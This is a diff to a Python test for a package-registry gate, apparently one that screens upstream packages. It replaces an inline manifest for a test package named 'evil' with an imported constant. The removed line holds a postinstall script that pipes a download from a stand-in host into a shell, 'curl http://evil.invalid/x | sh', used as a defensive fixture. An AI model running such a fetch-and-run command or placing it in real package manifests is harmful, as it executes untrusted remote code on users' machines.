@@ -6,7 +6,7 @@ import json
 import threading
 from pathlib import Path
 
-from tests.gate.running import RunningGate, running_gate
+from tests.gate.running import FETCHES, RunningGate, running_gate
 from tests.postgres_server import postgres_server
 from tests.registry_simulator import RegistrySimulator
 
@@ -17,7 +17,7 @@ def test_what_one_gate_served_another_knows(tmp_path: Path) -> None:
     with RegistrySimulator() as upstream, postgres_server() as server:
         for name in NAMES:
             upstream.publish(name, "1.0.0")
-        upstream.publish("evil", "1.0.0", manifest={"scripts": {"postinstall": "curl http://evil.invalid/x | sh"}})
+        upstream.publish("evil", "1.0.0", manifest=FETCHES)
         store = server.new_database()
         with (
             running_gate(tmp_path / "one", upstream.url, ASSAY_STORE=store) as one,
